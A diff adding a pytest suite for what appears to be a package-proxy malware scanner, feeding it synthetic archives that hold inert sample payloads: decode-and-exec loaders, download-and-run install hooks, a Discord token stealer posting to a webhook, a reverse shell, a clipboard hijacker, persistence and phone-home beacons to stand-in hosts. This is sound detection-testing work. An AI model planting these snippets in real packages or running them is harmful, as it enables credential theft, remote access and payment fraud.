@@ -1,0 +1,353 @@
+"""Each rule of the content scan, on small synthetic archives the tests write themselves.
+
+The "malicious" sources below are inert text handed to the scanner; nothing runs them.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from pipgate.policies.scan import ScanPolicy
+from pipgate.proxy.scan import scan_archive
+from tests.support.archives import pkg_info, sdist, wheel
+
+POLICY = ScanPolicy()
+
+SETUP_DECODE_EXEC = """\
+import base64
+from setuptools import setup
+exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
+setup(name="demo", version="1.0")
+"""
+LAMBDA_DECODE_EXEC = """\
+_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))
+exec((_)(b'==QfWqZp'))
+"""
+DOWNLOAD_EXEC = """\
+import urllib.request as u
+def go():
+    exec(u.urlopen("https://payload.example/p.py").read())
+go()
+"""
+STEALER = """\
+import os, requests, re
+def grab():
+    base = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
+    tokens = []
+    for name in os.listdir(base):
+        tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", open(os.path.join(base, name), errors="ignore").read())
+    requests.post("https://discord.com/api/webhooks/1234/abcd", json={"content": str(tokens)})
+grab()
+"""
+POWERSHELL_SETUP = """\
+import subprocess
+from setuptools import setup
+subprocess.Popen("powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", shell=True)
+setup(name="demo", version="1.0")
+"""
+CURL_SH_SETUP = """\
+import os
+from setuptools import setup
+os.system("curl -fsSL https://get.example/i.sh | sh")
+setup(name="demo")
+"""
+PERSISTENCE = """\
+import os, shutil, sys
+startup = os.path.join(os.getenv("APPDATA"), r"Microsoft\\Windows\\Start Menu\\Programs\\Startup")
+shutil.copy(sys.argv[0], os.path.join(startup, "updater.exe"))
+"""
+CLIPPER = """\
+import re, time, pyperclip
+MINE = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
+while True:
+    data = pyperclip.paste()
+    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", data):
+        pyperclip.copy(MINE)
+    time.sleep(1)
+"""
+PHONE_HOME_SETUP = """\
+import getpass, socket, urllib.request
+from setuptools import setup
+from setuptools.command.install import install
+
+class Hook(install):
+    def run(self):
+        urllib.request.urlopen("https://collect.example/?h=" + socket.gethostname() + "&u=" + getpass.getuser())
+        install.run(self)
+
+setup(name="acme-internal-tools", version="99.0.0", cmdclass={"install": Hook})
+"""
+OBFUSCATED = """\
+blob = "%s"
+getattr(__builtins__, "ex" + "ec")(blob)
+""" % ("QUJD" * 700)
+PY2_DECODE_EXEC = """\
+import base64
+print "installing"
+exec base64.b64decode("cHJpbnQgJ2hpJw==")
+exec(base64.b64decode("cHJpbnQgJ2hpJw=="))
+"""
+REVERSE_SHELL = """\
+import os, socket, subprocess
+def shell():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("shell.example", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    subprocess.call(["/bin/sh", "-i"])
+shell()
+"""
+IMPORT_BEACON = """\
+import getpass, socket, requests
+requests.post("https://collect.example/", json={"u": getpass.getuser(), "h": socket.gethostname()})
+"""
+HIDDEN_PAYLOAD_SETUP = '''\
+import os, tempfile
+from setuptools import setup
+payload = """import urllib.request as u; run = exec; run(u.urlopen('https://x.example/p').read())"""
+with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as handle:
+    handle.write(payload)
+os.system("python " + handle.name)
+setup(name="demo")
+'''
+HIDDEN_INSTALL_SETUP = """\
+import subprocess
+from setuptools import setup
+setup(name="demo", version="1.0")
+subprocess.getoutput("dig @1.1.1.1 beacon.collect.example")
+subprocess.getoutput("pip install helper-payload -U")
+"""
+MALICIOUS_PTH = "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
+
+# Legitimate packages do all of these every day; none may be flagged.
+BENIGN_SETUP = """\
+import os, subprocess, base64
+from setuptools import setup
+version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
+exec(open(os.path.join("demo", "_version.py")).read())
+setup(name="demo", version=version, long_description=base64.b64encode(b"x").decode())
+"""
+BENIGN_INIT = """\
+import base64, json, subprocess
+import requests
+
+def fetch(url):
+    response = requests.get(url, timeout=10)
+    return json.loads(response.text)
+
+def encode(data):
+    return base64.b64decode(base64.b64encode(data))
+
+def run(cmd):
+    return subprocess.run(cmd, check=True, capture_output=True)
+"""
+
+
+def _sdist(setup: str | None = None, init: str = "", **extra: str) -> bytes:
+    members = {"PKG-INFO": pkg_info(), "demo/__init__.py": init, **extra}
+    if setup is not None:
+        members["setup.py"] = setup
+    return sdist(members)
+
+
+CASES = [
+    # (id, archive bytes, filename, expected rule, flagged)
+    ("decode-exec setup.py", _sdist(SETUP_DECODE_EXEC), "demo-1.0.tar.gz", "decode-exec", True),
+    (
+        "decode-exec lambda in __init__",
+        wheel({"demo/__init__.py": LAMBDA_DECODE_EXEC}),
+        "demo-1.0-py3-none-any.whl",
+        "decode-exec",
+        True,
+    ),
+    (
+        "download-exec",
+        wheel({"demo/__init__.py": DOWNLOAD_EXEC}),
+        "demo-1.0-py3-none-any.whl",
+        "download-exec",
+        True,
+    ),
+    (
+        "malicious .pth",
+        wheel({"demo.pth": MALICIOUS_PTH, "demo/__init__.py": ""}),
+        "demo-1.0-py3-none-any.whl",
+        "pth-exec",
+        True,
+    ),
+    (
+        "credential stealer and webhook",
+        wheel({"demo/__init__.py": STEALER}),
+        "demo-1.0-py3-none-any.whl",
+        "credential-exfil",
+        True,
+    ),
+    ("powershell", _sdist(POWERSHELL_SETUP), "demo-1.0.tar.gz", "download-run", True),
+    ("curl | sh", _sdist(CURL_SH_SETUP), "demo-1.0.tar.gz", "download-run", True),
+    (
+        "persistence",
+        wheel({"demo/__init__.py": PERSISTENCE}),
+        "demo-1.0-py3-none-any.whl",
+        "persistence",
+        False,
+    ),
+    (
+        "clipboard swap",
+        wheel({"demo/__init__.py": CLIPPER}),
+        "demo-1.0-py3-none-any.whl",
+        "clipboard-swap",
+        True,
+    ),
+    (
+        "phone-home placeholder",
+        sdist(
+            {
+                "PKG-INFO": pkg_info("acme-internal-tools", "99.0.0"),
+                "setup.py": PHONE_HOME_SETUP,
+            },
+            root="acme-internal-tools-99.0.0",
+        ),
+        "acme-internal-tools-99.0.0.tar.gz",
+        "phone-home",
+        True,
+    ),
+    (
+        "dummy placeholder",
+        sdist(
+            {
+                "PKG-INFO": pkg_info("acme-billing", "0.0.0", "Dummy package"),
+                "setup.py": "from setuptools import setup\nsetup(name='acme-billing')\n",
+                "acme_billing/__init__.py": "",
+            },
+            root="acme-billing-0.0.0",
+        ),
+        "acme-billing-0.0.0.tar.gz",
+        "placeholder-text",
+        True,
+    ),
+    (
+        "obfuscated with opaque literal",
+        wheel({"demo/__init__.py": OBFUSCATED}),
+        "demo-1.0-py3-none-any.whl",
+        "obfuscated",
+        False,
+    ),
+    (
+        "broken Python still read",
+        _sdist(PY2_DECODE_EXEC),
+        "demo-1.0.tar.gz",
+        "decode-exec",
+        True,
+    ),
+    (
+        "stealer dependency",
+        wheel(
+            {"demo/__init__.py": "x = 1\n"},
+            metadata=pkg_info() + "Requires-Dist: browser-cookie3\n",
+        ),
+        "demo-1.0-py3-none-any.whl",
+        "stealer-dependency",
+        False,
+    ),
+    (
+        "reverse shell",
+        wheel({"demo/__init__.py": "from .net import shell\n", "demo/net.py": REVERSE_SHELL}),
+        "demo-1.0-py3-none-any.whl",
+        "reverse-shell",
+        True,
+    ),
+    (
+        "phone home on import",
+        wheel({"demo/__init__.py": IMPORT_BEACON}),
+        "demo-1.0-py3-none-any.whl",
+        "phone-home",
+        True,
+    ),
+    (
+        "payload hidden in a string",
+        _sdist(HIDDEN_PAYLOAD_SETUP),
+        "demo-1.0.tar.gz",
+        "download-exec",
+        True,
+    ),
+    (
+        "hidden install and DNS beacon",
+        _sdist(HIDDEN_INSTALL_SETUP),  # and the package has no code: a placeholder
+        "demo-1.0.tar.gz",
+        "hidden-install",
+        True,
+    ),
+    (
+        "bundled executable",
+        _sdist("from setuptools import setup\nsetup()\n", **{"bin/payload.exe": "MZ"}),
+        "demo-1.0.tar.gz",
+        "bundled-executable",
+        False,
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("archive", "filename", "rule", "flagged"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
+)
+def test_rule_fires(archive: bytes, filename: str, rule: str, flagged: bool) -> None:
+    report = scan_archive(archive, filename)
+    assert report.incomplete is None
+    assert rule in {f.rule for f in report.findings}, report.findings
+    assert (not POLICY.decide(report).allowed) is flagged, report.summary()
+
+
+def test_reason_names_rule_and_file_line() -> None:
+    report = scan_archive(_sdist(SETUP_DECODE_EXEC), "demo-1.0.tar.gz")
+    decision = POLICY.decide(report)
+    assert "decode-exec" in decision.reason
+    assert "setup.py:3" in decision.reason
+
+
+def test_benign_package_with_subprocess_base64_requests_and_exec_of_a_file_passes() -> None:
+    report = scan_archive(_sdist(BENIGN_SETUP, BENIGN_INIT), "demo-1.0.tar.gz")
+    assert POLICY.decide(report).allowed, report.summary()
+    assert "decode-exec" not in {f.rule for f in report.findings}
+
+
+def test_benign_pth_that_only_adds_paths_or_imports() -> None:
+    archive = wheel(
+        {"demo.pth": "src\n# comment\nimport _virtualenv\n", "demo/__init__.py": "x = 1\n"}
+    )
+    report = scan_archive(archive, "demo-1.0-py3-none-any.whl")
+    assert {f.rule for f in report.findings} == {"pth-import"}
+    assert POLICY.decide(report).allowed
+
+
+def test_a_comment_that_mentions_a_webhook_is_not_a_finding() -> None:
+    source = '"""Send alerts: see https://discord.com/api/webhooks/1/x for the format."""\nx = 1\n'
+    report = scan_archive(
+        wheel({"demo/helpers/alerts.py": "# exec(b64decode(x))\nx = 1\n"}), "d.whl"
+    )
+    assert report.findings == ()
+    docstring_only = scan_archive(wheel({"demo/__init__.py": source}), "d.whl")
+    assert {f.rule for f in docstring_only.findings} <= {"exfil-sink"}
+    assert POLICY.decide(docstring_only).allowed
+
+
+def test_weak_signals_in_a_module_nothing_runs_weigh_less() -> None:
+    source = "import os\nCMD = 'curl -fsSL https://get.example/i.sh | sh'\ndef f():\n    os.system(CMD)\n"
+    early = scan_archive(wheel({"demo/__init__.py": source}), "d.whl")
+    deep = scan_archive(
+        wheel({"demo/__init__.py": "x = 1\n", "demo/tools/install.py": source}), "d.whl"
+    )
+    assert early.score > deep.score > 0
+
+
+def test_tests_and_docs_are_not_judged() -> None:
+    archive = _sdist(
+        "x = 1\n",
+        "def f():\n    return 1\n",
+        **{"tests/test_evil.py": SETUP_DECODE_EXEC, "docs/conf.py": STEALER},
+    )
+    assert scan_archive(archive, "demo-1.0.tar.gz").findings == ()
+
+
+def test_rules_version_is_reported() -> None:
+    from pipgate.proxy.scan import RULES_VERSION
+
+    assert scan_archive(_sdist("x = 1\n"), "demo-1.0.tar.gz").rules_version == RULES_VERSION
